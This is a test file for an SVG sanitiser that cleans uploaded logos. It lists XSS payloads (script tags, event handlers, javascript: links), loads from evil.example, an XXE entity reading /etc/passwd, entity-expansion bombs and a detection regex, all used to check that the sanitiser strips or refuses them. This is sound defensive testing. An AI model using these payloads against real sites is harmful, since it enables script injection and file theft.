import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { findLogoFault } from "./check-logo.ts";
import { cleanDrawing } from "./clean-drawing.ts";

const svg = (inner: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64"${attributes}>${inner}</svg>`;
const shape = '<path d="M0 0h64v64z"/>';

function cleaned(source: string) {
  const found = cleanDrawing(source);
  if ("fault" in found) throw new Error(`${found.fault.value}, allowed: ${found.fault.allowed}`);
  return found;
}

/** What can be hidden in an SVG, from the cheat sheets of OWASP, PortSwigger and html5sec; each beside a sound shape. */
const hostile: readonly (readonly [what: string, source: string])[] = [
  ["a script", svg(`<script>alert(1)</script>${shape}`)],
  ["a script from elsewhere", svg(`<script href="https://evil.example/x.js"/>${shape}`)],
  ["a script of another prefix", svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>${shape}`)],
  ["a script in capitals", svg(`<SCRIPT>alert(1)</SCRIPT>${shape}`)],
  ["a handler", svg(shape, ' onload="alert(1)"')],
  ["a handler in capitals", svg(`<g ONCLICK="alert(1)">${shape}</g>`)],
  ["a handler of a shape", svg('<path d="M0 0h64v64z" onmouseover="alert(1)"/>')],
  ["a handler of focus", svg('<path d="M0 0h64v64z" tabindex="0" autofocus="" onfocusin="alert(1)"/>')],
  [
    "HTML",
    svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>${shape}`),
  ],
  ["a frame", svg(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>${shape}`)],
  ["a link to a script", svg(`<a xlink:href="javascript:alert(1)">${shape}</a>`)],
  ["a link with a tab in it", svg(`<a href="java&#9;script:alert(1)">${shape}</a>`)],
  ["a use of data", svg(`<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>${shape}`)],
  ["a use of elsewhere", svg(`<use xlink:href="https://evil.example/x.svg#a"/>${shape}`)],
  ["a picture of elsewhere", svg(`<image href="https://evil.example/pixel.png"/>${shape}`)],
  ["a picture of a file", svg(`<image xlink:href="file:///etc/passwd"/>${shape}`)],
  ["a font picture", svg(`<feImage href="https://evil.example/x"/>${shape}`)],
  ["an animation of a link", svg(`<animate attributeName="href" values="javascript:alert(1)"/>${shape}`)],
  ["a set handler", svg(`<set attributeName="onmouseover" to="alert(1)"/>${shape}`)],
  [
    "a handler element",
    svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>${shape}`),
  ],
  ["a style from elsewhere", svg(`<style>@import url(https://evil.example/x.css);</style>${shape}`)],
  ["a style that loads", svg(`<style>.a{fill:url(https://evil.example/#x)}</style><path class="a" d="M0 0h64v64z"/>`)],
  [
    "a style of its own that loads",
    svg('<path d="M0 0h64v64z" style="fill:url(//evil.example/#x);background:url(x)"/>'),
  ],
  ["a binding", svg('<path d="M0 0h64v64z" style="-moz-binding:url(https://evil.example/x.xml#a)"/>')],
  ["an expression", svg('<path d="M0 0h64v64z" style="fill:expression(alert(1))"/>')],
  ["an escaped address", svg('<path d="M0 0h64v64z" fill="\\75rl(https://evil.example/)"/>')],
  ["a fill from elsewhere", svg('<path d="M0 0h64v64z" fill="url(https://evil.example/#a)"/>')],
  ["a filter from elsewhere", svg('<path d="M0 0h64v64z" filter="url(https://evil.example/#a)"/>')],
  ["a stylesheet instruction", `<?xml-stylesheet href="https://evil.example/x.xsl"?>${svg(shape)}`],
  ["a comment that HTML ends early", svg(`<!--><script>alert(1)</script>-->${shape}`)],
  ["markup in CDATA", svg(`<title><![CDATA[<img src=x onerror=alert(1)>]]></title>${shape}`)],
  ["markup in a title", svg(`<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>${shape}`)],
  ["markup in an attribute", svg(`<g id='"&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>${shape}</g>`)],
  ["a base", svg(shape, ' xml:base="javascript:alert(1)//"')],
  ["a mask from elsewhere", svg('<path d="M0 0h64v64z" mask="url( \'https://evil.example/#m\' )"/>')],
];

const refused: readonly (readonly [what: string, source: string])[] = [
  ["an entity of a file", `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<title>&x;</title>")}`],
  ["entities that unfold", `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${svg("<title>&b;</title>")}`],
  [
    "uses that unfold",
    svg('<g id="a"><path d="M0 0"/></g><g id="b"><use href="#a"/><use href="#a"/></g><use href="#b"/>'),
  ],
  ["a use of itself", svg('<g id="a"><use href="#a"/></g>')],
  ["no XML", "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'><path></svg>"],
  ["HTML instead", "<html><script>alert(1)</script></html>"],
  ["a root of no namespace", '<svg viewBox="0 0 1 1"/>'],
  ["no size", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'],
  ["a size without end", svg(shape).replace("0 0 64 64", "0 0 1e9 1e9")],
  ["thousands of elements", svg("<g/>".repeat(4_001))],
  ["a tower of groups", svg(`${"<g>".repeat(60)}${"</g>".repeat(60)}`)],
  ["half a megabyte", svg(`<desc>${"x".repeat(600_000)}</desc>`)],
  ["more than 64 kB that draw", svg(`<path d="${"M0 0".repeat(20_000)}"/>`)],
  ["nothing", ""],
];

describe("cleanDrawing", () => {
  it.each(hostile)("leaves of a drawing with %s what draws, and nothing that runs or loads", (_what, source) => {
    const { svg: clean } = cleaned(source);
    expect(findLogoFault(clean)).toBeNull();
    expect(clean).toContain('d="M0 0h64v64z"');
    const markup = clean.replace(/>[^<]*</g, "><");
    expect(markup).not.toMatch(
      /<script|<!|<\?|on\w+=|javascript|evil|https?:(?!\/\/www\.w3\.org\/2000\/svg")|data:|file:/i,
    );
  });

  it.each(refused)("refuses %s", (_what, source) => {
    expect(cleanDrawing(source)).toHaveProperty("fault");
  });

  it("draws what design programs write: styles, classes, sizes, and their own words around it", async () => {
    const source = `<?xml version="1.0" encoding="UTF-8"?><!-- made by hand --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="64px" height="32px" inkscape:version="1">
<metadata>nobody</metadata><inkscape:view/><defs><style type="text/css">.red, .thick{fill:#ff0000;} .thick{stroke-width:2}</style></defs>
<rect class="red" width="32" height="32"/><rect x="32" width="32" height="32" style="fill:#00ff00;mix-blend-mode:multiply"/></svg>`;
    const { svg: clean, width, height, leftOut } = cleaned(source);
    expect({ width, height, leftOut }).toEqual({ width: 64, height: 32, leftOut: [] });
    const { data } = await sharp(Buffer.from(clean)).removeAlpha().raw().toBuffer({ resolveWithObject: true });
    expect([...data.subarray(0, 3), ...data.subarray(63 * 3, 64 * 3)]).toEqual([255, 0, 0, 0, 255, 0]);
  });

  it("says which parts were left out, and cleans what is clean to the same", () => {
    const first = cleaned(svg(`<filter id="f"/><image href="a.png"/>${shape}`));
    expect(first.leftOut).toEqual(["filter", "image"]);
    expect(cleaned(first.svg)).toEqual({ ...first, leftOut: [] });
  });
});
